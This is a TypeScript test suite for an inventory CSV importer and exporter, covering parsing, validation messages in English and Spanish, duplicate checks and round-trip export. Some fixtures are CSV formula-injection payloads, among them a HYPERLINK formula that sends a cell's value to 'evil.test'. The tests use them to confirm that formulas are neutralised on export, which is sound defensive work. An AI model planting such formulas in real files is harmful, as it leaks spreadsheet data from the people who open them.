import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { createTranslator } from 'use-intl/core';
import type en from '../../messages/en.json';
import { issueText } from './error-sentence';
import type { InventoryItemRecord, InventoryUnitRecord } from '@staging/contracts/inventory';
import { inventoryItemRecord } from '@staging/contracts/testing/inventory-records';
import { INVENTORY_EXPORT_HEADER, inventoryExportRow, toCsv } from '@staging/domain/inventory-csv-cells';
import { chunk, errorRowsCsv, inventoryCsvTemplate, parseInventoryCsv, type CsvReadOptions } from './inventory-csv';

/** The export as the api streams it (services/inventory/export-inventory-csv.ts), in one piece. */
function unitsExportCsv(units: readonly InventoryUnitRecord[], locale: 'en' | 'es'): string {
  return toCsv([INVENTORY_EXPORT_HEADER, ...units.flatMap((unit) => unit.items.map((item) => inventoryExportRow(unit.name, item, locale)))]);
}

function optionsIn(locale: 'en' | 'es'): CsvReadOptions {
  const messages = JSON.parse(readFileSync(new URL(`../../messages/${locale}.json`, import.meta.url), 'utf8')) as typeof en;
  const errors = createTranslator({ locale, messages, namespace: 'errors' });
  return { t: createTranslator({ locale, messages, namespace: 'csv' }), issueText: (issue) => issueText(errors, issue), locale };
}
const english = optionsIn('en');

describe('parseInventoryCsv', () => {
  it('maps header aliases, converts values and reads status codes and labels', () => {
    const parsed = parseInventoryCsv('\uFEFFUnit Number,FLOOR,status,price\r\nA-1,2,sold,"1,250.50"\r\nA-2,,,\r\nA-3,-1,Disponible,-300\r\n', english);
    expect(parsed.errors).toEqual([]);
    expect(parsed.rows.map(({ line, item }) => ({ line, item }))).toEqual([
      { line: 2, item: { unitNumber: 'A-1', floor: 2, status: 'SOLD', priceAdjustment: 1250.5 } },
      { line: 3, item: { unitNumber: 'A-2' } },
      { line: 4, item: { unitNumber: 'A-3', floor: -1, status: 'AVAILABLE', priceAdjustment: -300 } },
    ]);
  });

  it('reports each bad row with its line, fields and every problem, and keeps the good ones', () => {
    const parsed = parseInventoryCsv(['unitNumber,floor,status', ',1,AVAILABLE', 'B-2,abc,BROKEN', 'B-3,1.5,RENTED', 'B-4,99999,'].join('\n'), english);
    expect(parsed.rows.map((row) => row.item.unitNumber)).toEqual(['B-3']);
    expect(parsed.errors).toEqual([
      { line: 2, fields: ['', '1', 'AVAILABLE'], message: 'unitNumber: Required.' },
      { line: 3, fields: ['B-2', 'abc', 'BROKEN'], message: 'floor: "abc" is not a number; status: "BROKEN" is not one of Available, Reserved, Sold, Rented' },
      // A range rule only the server's zod schema knows: the preview applies the same schema.
      { line: 5, fields: ['B-4', '99999', ''], message: 'floor: At most 10,000.' },
    ]);
  });

  it('refuses duplicates within the file and unit numbers the unit already has', () => {
    const parsed = parseInventoryCsv('unitNumber\nC-1\nC-2\n C-1 \nC-9\n', { ...english, existingUnitNumbers: new Set(['C-9']) });
    expect(parsed.rows.map((row) => row.item.unitNumber)).toEqual(['C-1', 'C-2']);
    expect(parsed.errors.map((error) => [error.line, error.message])).toEqual([
      [4, 'unitNumber: "C-1" is already on line 2'],
      [5, 'unitNumber: "C-9" already exists in this unit'],
    ]);
  });

  it('numbers lines as a spreadsheet does, across quoted line breaks and blank lines', () => {
    const parsed = parseInventoryCsv('unitNumber,comment,status\r\nD-1,"two\r\nlines",SOLD\r\n\r\nD-2,,nope\r\n', english);
    expect(parsed.errors.map((error) => error.line)).toEqual([5]);
    expect(parsed.rows.map((row) => row.line)).toEqual([2]);
  });

  it('reports problems in the UI language and reads Spanish labels back', () => {
    const parsed = parseInventoryCsv('unitNumber,status,floor\nF-1,Vendida\nF-2,roto\nF-3,,-99999\nF-4,"Vendida\n', optionsIn('es'));
    expect(parsed.rows[0]?.item.status).toBe('SOLD');
    expect(parsed.errors.map((error) => error.message)).toEqual([
      'status: «roto» no es uno de estos: Disponible, Reservada, Vendida, Alquilada',
      'floor: Como mínimo -10.000.',
      'No se puede leer la línea: un campo entre comillas no se cierra nunca.',
    ]);
  });

  it('refuses a file without a unitNumber column', () => {
    expect(parseInventoryCsv('floor,status\n1,SOLD', english).fileError).toMatch(/unitNumber/);
    expect(parseInventoryCsv('', english).fileError).toBe('The file is empty.');
  });

  it('splits into chunks of at most the given size', () => {
    expect(chunk([...Array(1197).keys()], 500).map((part) => part.length)).toEqual([500, 500, 197]);
  });
});

describe('CSV downloads', () => {
  it('writes a template the import reads without errors', () => {
    const parsed = parseInventoryCsv(inventoryCsvTemplate('en'), english);
    expect(parsed.errors).toEqual([]);
    expect(parsed.rows).toHaveLength(2);
  });

  it('writes the bad rows as read, with the reason, ready to fix and import again', () => {
    const parsed = parseInventoryCsv('unitNumber,floor\nE-1,x\n=cmd(),2\n', english);
    const rows = Papa.parse<string[]>(errorRowsCsv(parsed.header, parsed.errors)).data;
    expect(rows[0]).toEqual(['unitNumber', 'floor', 'error', 'line']);
    expect(rows[1]).toEqual(['E-1', 'x', 'floor: "x" is not a number', '2']);
    expect(rows).toHaveLength(2);
  });

  const item = inventoryItemRecord;
  const unitWith = (items: InventoryItemRecord[], name = 'Tower'): InventoryUnitRecord => ({ propertyUnitId: 'u1', propertyId: 'p', name, createdAt: '', items });

  it('exports every item with human status labels and formulas neutralised', () => {
    const csv = unitsExportCsv([unitWith([item({ unitNumber: '=HYPERLINK("x")', floor: 2, status: 'RESERVED', priceAdjustment: -300 })])], 'en');
    const rows = Papa.parse<string[]>(csv).data;
    expect(rows).toEqual([
      ['unitName', 'unitNumber', 'floor', 'status', 'priceAdjustment', 'notes'],
      ['Tower', `'=HYPERLINK("x")`, '2', 'Reserved', '-300', ''],
    ]);
    expect(parseInventoryCsv(csv, english).rows[0]?.item).toMatchObject({ floor: 2, status: 'RESERVED', priceAdjustment: -300 });
  });

  it('exports and imports again without losing a value of any column the import reads', () => {
    const items = [
      item({ unitNumber: 'A-1', floor: -1.5, status: 'SOLD', priceAdjustment: 1250.5, notes: 'corner unit\r\nsea view\n=1+1 ' }),
      item({ unitNumber: '=HYPERLINK("x")', floor: 10_000, status: 'RESERVED', priceAdjustment: -999_999_999_999.99, notes: '=HYPERLINK("http://evil.test/?leak="&A2,"Click me")\n' }),
      item({ unitNumber: "'quoted", status: 'RENTED', notes: "'=already quoted" }),
      item({ unitNumber: '-7', notes: '  spaces kept  ' }),
      item({ unitNumber: 'Ünïcödé 日本', notes: 'a "quoted" word, a comma; and ☃' }),
    ];
    for (const locale of ['en', 'es'] as const) {
      const parsed = parseInventoryCsv(unitsExportCsv([unitWith(items)], locale), optionsIn(locale));
      expect(parsed.errors).toEqual([]);
      expect(parsed.unusedColumns).toEqual(['unitName']);
      expect(parsed.rows.map((row) => row.item)).toEqual(
        items.map(({ unitNumber, floor, status, priceAdjustment, notes }) => ({
          unitNumber,
          ...(floor === null ? {} : { floor }),
          status,
          ...(priceAdjustment === null ? {} : { priceAdjustment }),
          ...(notes === null ? {} : { notes }),
        })),
      );
    }
  });

  it('names the columns the import does not use', () => {
    expect(parseInventoryCsv('unitName,unitNumber,comment,,notes\nTower,1,x,,n\n', english).unusedColumns).toEqual(['unitName', 'comment']);
  });
});
